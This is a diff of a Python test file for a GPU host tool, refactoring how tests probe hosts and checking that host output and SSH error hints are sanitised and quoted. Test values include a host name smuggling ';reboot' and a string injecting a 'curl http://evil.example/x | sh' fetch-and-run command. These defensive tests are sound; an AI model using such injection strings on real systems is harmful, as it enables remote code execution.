@@ -15,13 +15,14 @@ import pytest
 from builders import make_plan, make_spec
 from command_line import gputui as gputui_command
 from journals import journal_lines
+from probed_hosts import probed
 
 from gputui.errors import GputuiError
 from gputui.machine.describing import describe_machine
 from gputui.model.journal import encode_line, to_plain
 from gputui.recording.spec import Spec
 from gputui.services.hosts import bakeoff as bakeoff_module
-from gputui.services.hosts.bakeoff import DONE, FAILED, Bakeoff, on_all, probed
+from gputui.services.hosts.bakeoff import DONE, FAILED, Bakeoff, on_all
 from gputui.services.hosts.box import Box
 from gputui.services.hosts.host import Host, hosts_from, ssh_host, why_unreachable
 from gputui.store.reading import open_result
@@ -92,7 +93,7 @@ def described(**changed: object) -> dict[str, Any]:
 
 
 def asked(directory: Path, answers: dict[str, Any]) -> Box | GputuiError:
-    (found,) = on_all([stranger(directory, answers)], probed(bytes(32)))
+    (found,) = probed([stranger(directory, answers)])
     return found
 
 
@@ -104,7 +105,7 @@ def said(found: Box | GputuiError) -> str:
 def test_what_a_host_says_of_itself_is_checked_and_cleaned(tmp_path: Path) -> None:
     good = asked(tmp_path, {"describe": [[described(found_as="\x1b[2Jhere"), ""]]})
     assert isinstance(good, Box)
-    assert good.found_as == "\\x1b[2Jhere"
+    assert good.chosen.found_as == "\\x1b[2Jhere"
     assert good.clock_ahead_s < -1e9
     assert any("its clock is" in caution for caution in good.cautions())
     wrong: list[dict[str, object]] = [
@@ -164,7 +165,7 @@ def test_a_host_whose_first_answer_makes_no_sense_does_not_stop_the_others(tmp_p
     (tmp_path / "deep.py").write_text(DEEP_AT_FIRST)
     deep = Host("deep", (sys.executable, str(tmp_path / "deep.py")))
     good = stranger(tmp_path, {"describe": [[described(), ""]]})
-    bad, box = on_all([deep, good], probed(bytes(32)))
+    bad, box = probed([deep, good])
     assert said(bad) == "its answer makes no sense (it is nested more than 64 deep)"
     assert isinstance(box, Box)
 
@@ -336,7 +337,8 @@ for line in sys.stdin:
 def test_a_host_that_only_says_that_it_goes_on_is_given_up(
     tmp_path: Path, spec: Spec, monkeypatch: pytest.MonkeyPatch, pause_s: float, longest_s: float, why: str
 ) -> None:
-    monkeypatch.setattr(bakeoff_module.HostRun, "_longest_s", lambda run: longest_s)
+    monkeypatch.setattr(bakeoff_module, "START_S", longest_s / 2)
+    monkeypatch.setattr(bakeoff_module, "HARD_STOP", 0.0)
     (tmp_path / "endless.py").write_text(ENDLESS.replace("PAUSE_S", str(pause_s)))
     host = Host("endless", (sys.executable, str(tmp_path / "endless.py")))
     made = Bakeoff.create("b", Path(spec.target), [(host, spec)], [(0,)], gives_up_after_s=0)
@@ -411,7 +413,7 @@ esac
     ssh.chmod(0o755)
     monkeypatch.setenv("GPUTUI_SSH", str(ssh))
     monkeypatch.setenv("STATUS", "255")
-    (found,) = on_all([ssh_host("ann@gpu-a;reboot:2222")], probed(bytes(32)))
+    (found,) = probed([ssh_host("ann@gpu-a;reboot:2222")])
     assert isinstance(found, GputuiError)
     assert found.message == "its host key has changed"
     assert found.hint == (
@@ -419,7 +421,7 @@ esac
         f" then {ssh} -p 2222 'ann@gpu-a;reboot'"
     )
     monkeypatch.setenv("STATUS", "1")
-    (found,) = on_all([ssh_host("gpu-a")], probed(bytes(32)))
+    (found,) = probed([ssh_host("gpu-a")])
     assert isinstance(found, GputuiError)
     assert found.hint == f"try it: {ssh} gpu-a"
     quotation = "Host key verification failed.' ; curl http://evil.example/x | sh #"
